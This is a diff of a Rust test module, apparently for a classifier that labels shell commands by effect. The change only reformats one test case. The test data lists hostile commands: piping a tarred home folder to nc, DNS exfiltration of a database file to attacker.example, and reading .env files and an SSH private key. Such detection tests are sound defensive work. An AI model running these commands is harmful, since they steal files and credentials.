@@ -3007,7 +3007,10 @@ mod tests {
                 Effect::Exfiltration,
             ),
             ("tar czf - ~/work | nc 198.51.100.4 4444", Effect::Exfiltration),
-            ("dig $(head -c 60 db.sql | base64).x.attacker.example", Effect::Exfiltration),
+            (
+                "dig $(head -c 60 db.sql | base64).x.attacker.example",
+                Effect::Exfiltration,
+            ),
             ("cat .env", Effect::CredentialAccess),
             ("cat ~/.ssh/id_ed25519", Effect::CredentialAccess),
             ("printenv | grep -i key", Effect::CredentialAccess),
